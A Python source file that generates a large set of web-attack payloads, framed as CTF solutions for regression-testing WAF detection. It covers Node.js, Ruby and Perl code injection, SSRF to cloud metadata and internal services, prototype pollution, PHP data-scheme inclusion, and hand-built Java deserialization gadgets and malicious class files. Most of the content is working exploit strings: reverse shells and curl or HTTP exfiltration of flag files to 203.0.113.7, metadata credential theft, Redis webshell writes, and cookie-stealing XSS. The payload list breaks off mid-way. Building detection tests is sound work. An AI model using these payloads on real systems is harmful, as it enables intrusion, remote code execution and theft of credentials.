"""Blind set "hundredfiftyeighth": capture-the-flag solutions for the generic (Node.js, SSRF, prototype pollution,
Ruby, Perl, DoS, PHP data scheme), Java and server-side template injection titles, with benign requests that carry
the same words innocently.

The angle: CTF write-ups, recalled from memory. A web challenge always has a filter, so each payload here is the
winning one under a constraint (no spaces, no quotes, no parentheses, no dots, no underscores, a keyword
blacklist, a length limit, a case-sensitive check, a MIME or extension whitelist, a second-order sink, a parser
differential between the URL checker and the fetcher) and still reaches the family's real goal: read the flag
file or environment, run a command or a reverse shell, pop an alert, include a remote file, reach an internal
service or the cloud metadata endpoint. A short comment above each group names the constraint and the target
(interpreter, shell, browser, template engine, product).

Families and sub-families:
  generic: nodejs-injection (child_process, require, process, Function/eval/vm), nodejs-dos (regular expressions,
    huge allocations, endless loops), ssrf-cloud-metadata (AWS, GCP, Azure, Alibaba, DigitalOcean, OCI,
    OpenStack, IPv6 forms), ssrf-internal-ip (decimal, octal, hex and short IPv4, localhost aliases, file://,
    gopher://, dict://), javascript-prototype-pollution (__proto__ and constructor.prototype in query and JSON),
    ruby-injection (eval, system, backticks, Kernel.open pipes, YAML.load), perl-injection (open pipes, system,
    eval, qx), php-data-scheme
  java: java-class-names (Runtime, ClassLoader, ScriptEngineManager, Groovy and BeanShell sinks),
    java-process-spawn, java-serialization (ac ed 00 05 raw and percent-encoded, rO0AB base64, hex, gzip),
    java-deserialization-gadget (commons-collections, spring, groovy, TemplatesImpl, c3p0, rome, hibernate),
    log4shell (nested and encoded lookups), expression-language (OGNL, SpEL, MVEL, JEXL, JSP and JSF EL),
    polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson), class-loading (URLClassLoader,
    defineClass, classLoader parameter binding), jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, the user import upload), once the way a WAF regression suite sends it
(placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form body, JSON body, XML
body, or in User-Agent, Referer, a custom header or a cookie. Payloads that only work in one kind of place say so:
whole JSON or XML documents go as the body, parameter-binding and pollution strings go as the raw query or form
body, OGNL in Content-Type goes as that header, Log4Shell mostly in logged headers, raw Java serialization
streams percent-encoded (a str body cannot carry bytes), JSP sources as an uploaded file.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read. The
Java serialization streams (CommonsCollections6-style chain, URLDNS) and the small class file used by the
defineClass and TemplatesImpl payloads are assembled here byte by byte. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import struct
from collections.abc import Iterator
from typing import Any

from .blind_placements import RS_NAMES, BlindSet, Cycles, Entry, Put, Record, request
from .family_gen import _get, _json
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredfiftyeighth"


# ----------------------------------------------------------------------------------------------------------------
# Small encoders the payloads are built with
def _b64s(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _cc(text: str) -> str:
    """Character codes, comma-separated (String.fromCharCode, Ruby/Perl chr lists)."""
    return ",".join(str(ord(c)) for c in text)


def _perl_chr(text: str) -> str:
    return ".".join(f"chr({ord(c)})" for c in text)


def _hex(text: str) -> str:
    return text.encode().hex()


# ----------------------------------------------------------------------------------------------------------------
# Java: a serialization stream writer (ObjectOutputStream grammar, no back-references) and a tiny class file
MAGIC = b"\xac\xed\x00\x05"


def _u16(n: int) -> bytes:
    return struct.pack(">H", n)


def _utf(text: str) -> bytes:
    raw = text.encode()
    return _u16(len(raw)) + raw


def _sdesc(name: str, suid: int, flags: int, fields: tuple[tuple[str, str, str], ...] = (),
           sup: bytes = b"p") -> bytes:
    out = b"r" + _utf(name) + struct.pack(">q", suid) + bytes([flags]) + _u16(len(fields))
    for code, fname, ftype in fields:
        out += code.encode() + _utf(fname)
        if code in "L[":
            out += b"t" + _utf(ftype)
    return out + b"x" + sup


def _jstr(text: str) -> bytes:
    return b"t" + _utf(text)


def _i32(n: int) -> bytes:
    return struct.pack(">i", n)


CC = "org.apache.commons.collections."
D_CLASS_ARR = _sdesc("[Ljava.lang.Class;", -6118465897992725863, 2)
D_OBJ_ARR = _sdesc("[Ljava.lang.Object;", -8012369246846506644, 2)
D_STR_ARR = _sdesc("[Ljava.lang.String;", -5921575005990323385, 2)
C_STRING = b"v" + _sdesc("java.lang.String", -6849794470754667710, 2)
C_OBJECT = b"v" + _sdesc("java.lang.Object", 0, 0)
C_RUNTIME = b"v" + _sdesc("java.lang.Runtime", 0, 0)


def _invoker(method: str, types: list[bytes], args: list[bytes]) -> bytes:
    desc = _sdesc(CC + "functors.InvokerTransformer", -8653385846894047688, 2,
                  (("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                   ("[", "iParamTypes", "[Ljava/lang/Class;")))
    return (b"s" + desc + b"u" + D_OBJ_ARR + _i32(len(args)) + b"".join(args) + _jstr(method)
            + b"u" + D_CLASS_ARR + _i32(len(types)) + b"".join(types))


def _cc6(cmd: str | list[str]) -> bytes:
    """HashSet -> TiedMapEntry -> LazyMap -> ChainedTransformer(Runtime.getRuntime().exec(cmd))."""
    constant = b"s" + _sdesc(CC + "functors.ConstantTransformer", 6374440726369055124, 2,
                             (("L", "iConstant", "Ljava/lang/Object;"),)) + C_RUNTIME
    if isinstance(cmd, str):
        exec_types, exec_args = [C_STRING], [_jstr(cmd)]
    else:
        exec_types = [b"v" + D_STR_ARR]
        exec_args = [b"u" + D_STR_ARR + _i32(len(cmd)) + b"".join(_jstr(c) for c in cmd)]
    chain = [constant,
             _invoker("getMethod", [C_STRING, b"v" + D_CLASS_ARR],
                      [_jstr("getRuntime"), b"u" + D_CLASS_ARR + _i32(0)]),
             _invoker("invoke", [C_OBJECT, b"v" + D_OBJ_ARR], [b"p", b"u" + D_OBJ_ARR + _i32(0)]),
             _invoker("exec", exec_types, exec_args)]
    chained = b"s" + _sdesc(CC + "functors.ChainedTransformer", 3514945074733160196, 2,
                            (("[", "iTransformers", "[L" + CC.replace(".", "/") + "Transformer;"),)) \
        + b"u" + _sdesc("[L" + CC + "Transformer;", 0xBD562AF1D8341899 - (1 << 64), 2) \
        + _i32(len(chain)) + b"".join(chain)
    inner = b"s" + _sdesc("java.util.HashMap", 362498820763181265, 3,
                          (("F", "loadFactor", ""), ("I", "threshold", ""))) \
        + struct.pack(">fi", 0.75, 12) + b"w\x08" + struct.pack(">ii", 16, 0) + b"x"
    lazy = b"s" + _sdesc(CC + "map.LazyMap", 7990956402564206740, 3,
                         (("L", "factory", "L" + CC.replace(".", "/") + "Transformer;"),)) + chained + inner + b"x"
    tied = b"s" + _sdesc(CC + "keyvalue.TiedMapEntry", -8453869361373831205, 2,
                         (("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;"))) + _jstr("ctf") + lazy
    return MAGIC + b"s" + _sdesc("java.util.HashSet", -5024744406713321676, 3) \
        + b"w\x0c" + struct.pack(">ifi", 2, 0.75, 1) + tied + b"x"


def _urldns(host: str) -> bytes:
    """HashMap{java.net.URL(hashCode=-1): url}: readObject rehashes the key, which resolves the host."""
    url = b"s" + _sdesc("java.net.URL", -7627629688361524110, 3,
                        (("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", "Ljava/lang/String;"),
                         ("L", "file", "Ljava/lang/String;"), ("L", "host", "Ljava/lang/String;"),
                         ("L", "protocol", "Ljava/lang/String;"), ("L", "ref", "Ljava/lang/String;")))
    url += _i32(-1) + _i32(-1) + _jstr(host) + _jstr("/") + _jstr(host) + _jstr("http") + b"p" + b"x"
    return MAGIC + b"s" + _sdesc("java.util.HashMap", 362498820763181265, 3,
                                 (("F", "loadFactor", ""), ("I", "threshold", ""))) \
        + struct.pack(">fi", 0.75, 12) + b"w\x08" + struct.pack(">ii", 16, 1) + url + _jstr("http://" + host + "/") \
        + b"x"


def _classfile(name: str, cmd: str, superclass: str = "java/lang/Object") -> bytes:
    """A class (version 49) whose static initializer runs Runtime.getRuntime().exec(cmd), with a public no-arg
    constructor calling the superclass's."""
    pool: list[bytes] = []

    def add(entry: bytes) -> int:
        pool.append(entry)
        return len(pool)

    def utf8(text: str) -> int:
        return add(b"\x01" + _utf(text))

    def klass(text: str) -> int:
        return add(b"\x07" + _u16(utf8(text)))

    def method_ref(owner: int, mname: str, desc: str) -> int:
        nat = add(b"\x0c" + _u16(utf8(mname)) + _u16(utf8(desc)))
        return add(b"\x0a" + _u16(owner) + _u16(nat))

    this_cls, super_cls, runtime = klass(name), klass(superclass), klass("java/lang/Runtime")
    get_runtime = method_ref(runtime, "getRuntime", "()Ljava/lang/Runtime;")
    exec_ = method_ref(runtime, "exec", "(Ljava/lang/String;)Ljava/lang/Process;")
    super_init = method_ref(super_cls, "<init>", "()V")
    command = add(b"\x08" + _u16(utf8(cmd)))
    code_attr, clinit, init, void = utf8("Code"), utf8("<clinit>"), utf8("<init>"), utf8("()V")

    def method(access: int, mname: int, stack: int, local: int, code: bytes) -> bytes:
        body = _u16(stack) + _u16(local) + struct.pack(">I", len(code)) + code + _u16(0) + _u16(0)
        return _u16(access) + _u16(mname) + _u16(void) + _u16(1) + _u16(code_attr) + struct.pack(">I", len(body)) \
            + body

    static_code = b"\xb8" + _u16(get_runtime) + b"\x13" + _u16(command) + b"\xb6" + _u16(exec_) + b"\x57\xb1"
    init_code = b"\x2a\xb7" + _u16(super_init) + b"\xb1"
    return (b"\xca\xfe\xba\xbe" + _u16(0) + _u16(49) + _u16(len(pool) + 1) + b"".join(pool)
            + _u16(0x21) + _u16(this_cls) + _u16(super_cls) + _u16(0) + _u16(0) + _u16(2)
            + method(0x0008, clinit, 2, 0, static_code) + method(0x0001, init, 1, 1, init_code) + _u16(0))


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _bcel(raw: bytes) -> str:
    """BCEL's class-loader name: gzip, then every byte outside [A-Za-z0-9_] as $ and two hex digits."""
    out = []
    for b in gzip.compress(raw, mtime=0):
        ch = chr(b)
        out.append(ch if ch.isascii() and (ch.isalnum() or ch == "_") else f"${b:02x}")
    return "$$BCEL$$" + "".join(out)


SER_CC6_FLAG = _cc6("cat /flag")
SER_CC6_CURL = _cc6("curl -F f=@/flag http://203.0.113.7/")
SER_CC6_SHELL = _cc6(["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
SER_CC6_WRITE = _cc6(["/bin/sh", "-c", "cat /flag > /usr/local/tomcat/webapps/ROOT/f.txt"])
SER_URLDNS = _urldns("ser.oob.attacker.example")
SER_URLDNS_2 = _urldns("c7f1.dnslog.attacker.example")
CLASS_EXEC = _b64(_classfile("Pwn", "touch /tmp/pwned"))
BCEL_EXEC = _bcel(_classfile("Pwn", "touch /tmp/pwned"))
CLASS_TRANSLET = _b64(_classfile("Evil", "curl http://203.0.113.7/x -d @/flag",
                                 "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet"))

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when it only works in one
# kind of place.
JB = ("json-body", "rs-json-body")
XB = ("xml", "rs-xml")
RQ = ("raw-query", "rs-raw-query")
RF = ("raw-form", "rs-raw-form")

# ---- generic: nodejs-injection. Target: a Node.js eval()/Function()/vm sink (calculators, "safe" sandboxes)
NODE_INJ: list[Entry] = [
    # no quotes at all: strings from character codes
    f"require(String.fromCharCode({_cc('child_process')})).execSync(String.fromCharCode({_cc('cat /flag')}))+[]",
    # "require" blacklisted: the module loader through mainModule.constructor
    'process.mainModule.constructor._load("child_process").execSync("cat /flag").toString()',
    # "process" blacklisted: bracket access with concatenated names
    'global["pro"+"cess"]["mainModule"]["require"]("child_"+"process")["execSync"]("cat /flag")+""',
    # vm.runInNewContext "sandbox": escape through the context object's Function constructor
    'this.constructor.constructor("return process")().mainModule.require("child_process")'
    '.execSync("cat /flag.txt").toString()',
    # no parentheses: tagged templates, the body's parentheses written as \x28 \x29
    r"Function`a${`return process.mainModule.require\x28'child_process'\x29.execSync\x28'cat /flag'\x29`}```",
    # keyword filter on the raw input: hex escapes inside the evaluated string
    r'eval("\x72\x65\x71\x75\x69\x72\x65(`child_process`).execSync(`cat /flag`)+``")',
    # keyword filter: unicode escapes inside an identifier are still the identifier
    r"\u0072\u0065quire('child_process').execSync('cat /flag')+''",
    # every keyword filtered: the code base64-encoded
    "eval(Buffer.from('" + _b64s("require('child_process').execSync('cat /flag').toString()")
    + "','base64').toString())",
    # no shell metacharacters allowed in the command: argv without a shell
    "require('child_process').spawnSync('cat',['/flag']).stdout+''",
    # the flag is a file: read it without spawning anything
    "require('fs').readFileSync('/flag.txt','utf8')",
    # flag file name unknown: list the root first
    "require('fs').readdirSync('/').join(',')",
    # no dots: brackets only
    "require('child_process')['execSync']('cat flag')['toString']()",
    # blind sink (no output): reverse shell
    "require('child_process').exec('bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"')",
    # the flag lives in the environment
    "JSON.stringify(process.env)",
    # eval blacklisted: setTimeout with a string compiles it too
    "setTimeout(\"process.mainModule.require('child_process').exec('nc 203.0.113.7 4444 -e /bin/sh')\",1)",
    # ES module context, require undefined: dynamic import
    "(await import('child_process')).execSync('cat /flag')+''",
    # node-serialize unserialize() of a cookie/JSON: the immediately invoked function
    ('{"username":"_$$ND_FUNC$$_function(){return require(\'child_process\').execSync(\'cat /flag\')'
     '.toString()}()","admin":true}', *JB),
    # process.binding: spawn_sync without child_process
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','cat /flag'],"
    "stdio:[{type:'pipe',readable:1},{type:'pipe',writable:1},{type:'pipe',writable:1}]}).output+''",
    # no outbound shell allowed: exfiltrate over HTTP from the interpreter itself
    "require('http').get('http://203.0.113.7/?f='+require('fs').readFileSync('/flag','base64'))",
    # no dots and no require in scope (vm): walk from [] to the global object
    "[]['constructor']['constructor']('return this')()['process']['mainModule']['require']('child_process')"
    "['execSync']('cat /flag')+''",
    # keyword blacklist on whole tokens: concatenation inside the strings
    "require('child'+'_process').execSync('c'+'at /fl'+'ag')+''",
    # vm2 3.9.x: an exception thrown from a Proxy trap carries the host's Function constructor
    "err={};h={getPrototypeOf(t){(function s(){new Error().stack;s()})()}};p=new Proxy(err,h);"
    "try{p instanceof Object}catch(e){e.constructor.constructor('return process')().mainModule"
    ".require('child_process').execSync('cat /flag')}",
    # second-order: the input is concatenated into a single-quoted string that is later eval'ed
    "'+require('child_process').execSync('cat /flag')+'",
    # same, double-quoted string and a statement break, rest commented out
    "\");process.mainModule.require('child_process').execSync('cp /flag public/f.txt');//",
]

# ---- generic: nodejs-dos. Target: the Node.js event loop / V8 heap (one request stalls every user)
NODE_DOS: list[Entry] = [
    # user-supplied regular expression ("search with regex" feature): catastrophic backtracking
    "(a+)+$",
    "^(a|aa)+$",
    "(.*){1,32000}[bc]",
    "^(\\w+\\s?)*$",
    # blind regex injection: the regex only explodes when the flag starts with the guessed prefix
    "^(?=flag\\{a)((.*)*)*salt$",
    # input for a vulnerable e-mail regex in the signup form
    "a" * 3000 + "@" + "a" * 3000 + "!",
    # code sink: heap exhaustion
    "new Array(1e9).fill('A')",
    "Buffer.alloc(2**31-1)",
    "'A'.repeat(2**29)",
    "Array(2**32-1).join('A')",
    # code sink: block the event loop forever (length limit 9: while(1);)
    "while(1);",
    "for(;;){}",
    "new Promise(()=>{for(;;);})",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    # kill the shared server process
    "process.exit(0)",
    "process.kill(process.pid,'SIGKILL')",
    # CPU burn in native code
    "require('crypto').pbkdf2Sync('a','b',1e9,64,'sha512')",
    "require('fs').readFileSync('/dev/urandom')",
    "JSON.parse('['.repeat(1e7)+']'.repeat(1e7))",
    "new RegExp('(a*)*b').test('a'.repeat(64))",
]

# ---- generic: ssrf-cloud-metadata. Target: the instance metadata service through a URL fetcher (webhook,
# avatar-from-URL, PDF renderer)
SSRF_META: list[Entry] = [
    # no filter: IAM role credentials
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ctf-ec2-role",
    "http://169.254.169.254/latest/user-data/",
    # "169.254" blacklisted: decimal, hex, octal, mixed and short forms
    "http://2852039166/latest/meta-data/hostname",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/iam/info",
    "http://0xa9.0xfe.0xa9.0xfe/latest/dynamic/instance-identity/document",
    "http://169.254.43518/latest/meta-data/public-keys/",
    # IPv4 regex only: IPv6 forms
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    # GCP: v1beta1 needs no Metadata-Flavor header
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/instance/attributes/?recursive=true&alt=text",
    # Azure managed identity token and instance data
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    "http://169.254.169.254/metadata/instance/compute?api-version=2021-02-01&format=json",
    # Alibaba Cloud, DigitalOcean, Oracle Cloud, OpenStack
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # ECS task role endpoint
    "http://169.254.170.2/v2/credentials/",
    # the checker parses the host before "@", the fetcher after it
    "http://ctf-bot@169.254.169.254/latest/meta-data/",
    # the checker resolves names only by regex: wildcard DNS and DNS rebinding
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/iam/security-credentials/",
    # redirect-following fetcher, URL must be external: attacker's redirector
    "http://203.0.113.7/302.php?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    # ASCII-only blacklist, IDNA-normalising fetcher
    "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/",
    # IMDSv2 needs a PUT: gopher writes it by hand
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0d%0aHost:%20169.254.169.254%0d%0a"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0d%0a%0d%0a",
]

# ---- generic: ssrf-internal-ip. Target: services on the challenge host's loopback and private network
SSRF_INT: list[Entry] = [
    # "127.0.0.1" and "localhost" blacklisted: other spellings of loopback
    "http://2130706433:8080/flag",
    "http://017700000001/admin",
    "http://0x7f.0.0.1/internal/flag",
    "http://127.1:5000/flag",
    "http://0:80/admin",
    "http://[::]:3000/flag",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/admin",
    "http://localtest.me:8080/flag",
    "http://127.0.0.1.nip.io/admin/flag",
    # case-sensitive blacklist
    "http://LOCALHOST/admin/flag",
    # ASCII-only blacklist: enclosed alphanumerics
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/flag",
    # scheme not restricted: local files
    "file:///flag.txt",
    "file://localhost/proc/self/environ",
    # gopher to Redis: write a PHP webshell into the web root
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php"
    "%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5B0%5D)%3F%3E%22%0D%0ASAVE%0D%0A",
    # gopher to an internal admin endpoint that only accepts POST from localhost
    "gopher://127.0.0.1:80/_POST%20/admin/exec%20HTTP/1.1%0d%0aHost:%20127.0.0.1%0d%0a"
    "Content-Type:%20application/x-www-form-urlencoded%0d%0aContent-Length:%206%0d%0a%0d%0acmd=id",
    # gopher to SMTP: mail the admin
    "gopher://127.0.0.1:25/_HELO%20x%0d%0aMAIL%20FROM:%3Cctf@x%3E%0d%0aRCPT%20TO:%3Cadmin@ctf.local%3E%0d%0a"
    "DATA%0d%0aSubject:%20reset%0d%0a%0d%0a.%0d%0aQUIT%0d%0a",
    # "gopher" blacklisted: dict writes single Redis commands
    "dict://127.0.0.1:6379/config:set:dir:/var/spool/cron/crontabs",
    "dict://127.0.0.1:11211/get:flag",
    # internal APIs without authentication: Docker, Consul, Elasticsearch, Tomcat manager
    "http://127.0.0.1:2375/containers/json?all=1",
    "http://localhost:8500/v1/agent/self",
    "http://[::1]:9200/_search?q=flag",
    "http://10.0.0.5:8080/manager/text/list",
    "ftp://127.0.0.1:2121/flag.txt",
    # checker vs fetcher differentials (backslash, "&@", "#@")
    "http://127.0.0.1:80\\@allowed.example/flag",
    "http://allowed.example&@127.0.0.1:8080#@allowed.example/",
]

# ---- generic: javascript-prototype-pollution. Target: Node.js deep merge / qs parsing, then a gadget (EJS, pug,
# Handlebars, child_process, Express) or the browser (DOM gadgets)
POLLUTION: list[Entry] = [
    # filter strips "__proto__" once, not recursively
    ("__pro__proto__to__[isAdmin]=true", *RQ),
    # "__proto__" blacklisted: constructor.prototype, gadget EJS outputFunctionName -> RCE
    ("constructor[prototype][outputFunctionName]=_x;process.mainModule.require('child_process')"
     ".execSync('cat /flag > public/f');var _y", *RF),
    ('{"__proto__":{"outputFunctionName":"_t;global.process.mainModule.require(\'child_process\')'
     '.execSync(\'cat /flag > /app/static/f.txt\');var _u"}}', *JB),
    # gadget pug: an AST block injected through the prototype
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\')'
     '.execSync(\'cat /flag > /tmp/f\')"}}}', *JB),
    ('{"__proto__":{"compileDebug":1,"self":1,"line":"console.log(global.process.mainModule'
     '.require(\'child_process\').execSync(\'cat /flag\').toString())"}}', *JB),
    # gadget Handlebars: pendingContent lands in the page -> XSS
    ('{"__proto__":{"pendingContent":"<script>fetch(\'//203.0.113.7/?c=\'+document.cookie)</script>"}}', *JB),
    # gadget child_process.spawn: shell and NODE_OPTIONS from the prototype
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\')'
     '.execSync(\'cat /flag\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', *JB),
    ('{"__proto__":{"env":{"EVIL":"require(\'child_process\').execSync(\'cat /flag\')//",'
     '"NODE_OPTIONS":"--require /proc/self/environ"}}}', *JB),
    # gadget EJS escapeFunction (needs client=true)
    ('{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require('
     '\'child_process\').exec(\'cat /flag | nc 203.0.113.7 80\')"}}', *JB),
    # WAF matches the literal "__proto__" in the body: JSON unicode escape in the key
    ('{"\\u005f_proto__":{"isAdmin":true}}', *JB),
    # blind detection of pollution in Express: status, json spaces, exposed headers
    ('{"__proto__":{"status":510}}', *JB),
    ('{"__proto__":{"json spaces":10}}', *JB),
    ('{"__proto__":{"exposedHeaders":["x-ctf-polluted"]}}', *JB),
    # nested under an allowed key, merged recursively
    ('{"profile":{"constructor":{"prototype":{"isAdmin":true,"role":"admin"}}}}', *JB),
    ('{"items":[{"__proto__":{"allowUnsafeEval":true}}]}', *JB),
    # lodash.template sourceURL gadget through qs
    ("__proto__[sourceURL]=%0Areturn%20process.mainModule.require('child_process').execSync('cat%20/flag')//",
     *RQ),
    # client-side: DOM gadgets (sanitizer / script loader read unset properties)
    ("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>", *RQ),
    ("__proto__[src]=data:,alert(document.cookie)//", *RQ),
    ("constructor[prototype][transport_url]=data:,alert(1)//", *RQ),
    # dot-notation parser (allowDots)
    ("__proto__.isAdmin=true&__proto__.role=admin", *RQ),
    ("profile[constructor][prototype][verified]=true", *RF),
]

# ---- generic: ruby-injection. Target: Ruby eval / Kernel#open / YAML.load sinks (Sinatra and Rails challenges)
_RUBY_YAML_NEW = (
    "---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
    "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
    "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
    "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
    "             git_set: cat /flag\n         method_id: :resolve\n")
_RUBY_YAML_OLD = (
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
    "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
    "      loaded_from: \"|cat /flag 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n")
RUBY: list[Entry] = [
    # eval sink, no quotes: %x() literal
    "%x(cat /flag)",
    "`cat /flag`",
    # "system" alone blacklisted: fully qualified
    'Kernel.system("cat /flag")',
    'IO.popen("cat /flag").read',
    # Kernel#open on a user-chosen file name: a leading pipe runs a command
    'Kernel.open("|cat /flag").read',
    "|curl -d @/flag http://203.0.113.7/",
    'URI.open("|cat /flag").read',
    # flag name randomised
    'File.read(Dir.glob("/fla*")[0])',
    # second-order: the input lands inside a double-quoted string that is eval'ed
    "#{%x(cat /flag)}",
    '"+%x(cat /flag)+"',
    # method names blacklisted: send with a symbol
    'Object.const_get(:Kernel).send(:system, "cat /flag")',
    'Kernel.send(:`, "cat /flag")',
    # no spaces
    "`cat</flag`",
    # no quotes: %() literals and chr lists
    "$stdout.puts(File.read(%(/flag)))",
    f"eval([{_cc('`cat /flag`')}].pack(%(c*)))",
    # keyword filter: hex and base64 of the code
    f'eval(["{_hex("IO.popen(%w(cat /flag)).read")}"].pack("H*"))',
    f'eval(Base64.decode64("{_b64s("IO.readlines(%(/flag)).join")}"))',
    # blind sink: reverse shells
    'Process.spawn("nc 203.0.113.7 4444 -e /bin/sh")',
    'require "socket";c=TCPSocket.new("203.0.113.7",4444);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end',
    'require "open3";Open3.capture2e("cat","/flag")[0]',
    # YAML.load of an uploaded config (Psych, Ruby 2.7/3.0 and older gadget chains)
    _RUBY_YAML_NEW,
    _RUBY_YAML_OLD,
]

# ---- generic: perl-injection. Target: Perl CGI scripts (2-argument open, eval, s///ee)
PERL: list[Entry] = [
    # 2-argument open on the "file" parameter: a trailing or leading pipe
    "cat /flag|",
    "/bin/ls -la /|",
    "|/readflag",
    # eval sink, no quotes: q() and qx()
    "system q(cat /flag)",
    "print qx(cat /flag)",
    "print readpipe(q(cat /flag))",
    "open(F,q(/flag));print<F>",
    "$_=q(cat /flag);print`$_`",
    # eval sink: indirect object exec, 3-argument pipe open
    'exec{"/bin/sh"}"sh","-c","cat /flag"',
    'open my $h,"-|","cat","/flag";print <$h>',
    # no letters in the command string: chr()
    f"system({_perl_chr('cat /flag')})",
    # keyword filter: pack H* and base64
    f"eval(pack(q(H*),q({_hex('system(q(cat /flag))')})))",
    f"use MIME::Base64;eval(decode_base64(q({_b64s('print `cat /flag`')})))",
    # s///ee on user input: the replacement is evaluated twice
    "s{.*}{qx(cat /flag)}ee",
    # second-order: interpolation inside a double-quoted string
    "@{[ `cat /flag` ]}",
    "${\\ `cat /flag`}",
    # error-based output (die text shown by CGI::Carp)
    "die `cat /flag`",
    "require q(/flag)",
    'eval{local$/;open F,"</flag";print<F>}',
    # environment dump
    'print map{"$_=$ENV{$_}\\n"}keys%ENV',
    # blind: reverse shell
    'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("/bin/sh -i");};',
]

# ---- generic: php-data-scheme. Target: PHP include()/file_get_contents() with allow_url_include
PHP_SHELL = "<?php system('cat /flag');?>"
PHP_DATA: list[Entry] = [
    # "php://" blacklisted: data:// with base64
    "data://text/plain;base64," + _b64s(PHP_SHELL),
    # "base64" blacklisted: plain data
    "data://text/plain,<?php system('cat /flag');?>",
    # "php" blacklisted: short echo tag
    "data://text/plain,<?=`cat /flag`;",
    # "<?" blacklisted in the raw input, base64 allowed
    "data:text/plain;base64," + _b64s("<?=`cat /flag`;"),
    # "data://" blacklisted as a substring: RFC 2397 form without slashes
    "data:,<?php readfile('/flag');?>",
    # case-sensitive blacklist
    "DATA://text/plain;base64," + _b64s("<?php echo file_get_contents('/flag.txt');"),
    # MIME whitelist: only images may be included
    "data://image/jpeg;base64," + _b64s("<?php passthru('cat /flag');?>"),
    "data:image/png;charset=utf-8;base64," + _b64s("<?php var_dump(scandir('/'));?>"),
    # file_get_contents($text)==="welcome to the zjctf": data gives the exact string
    "data://text/plain,welcome to the zjctf",
    "data://text/plain;base64," + _b64s("welcome to the zjctf"),
    # data nested in a filter chain
    "php://filter/convert.base64-decode/resource=data://text/plain," + _b64s("<?php phpinfo();?>"),
    # parse_url() checker sees host 127.0.0.1, the data wrapper ignores it
    "compress.zlib://data:@127.0.0.1/plain;base64," + _b64s("<?php system($_GET[0]);?>"),
    # write a persistent webshell
    "data://text/plain;base64," + _b64s("<?php file_put_contents('s.php','<?php eval($_POST[1]);');?>"),
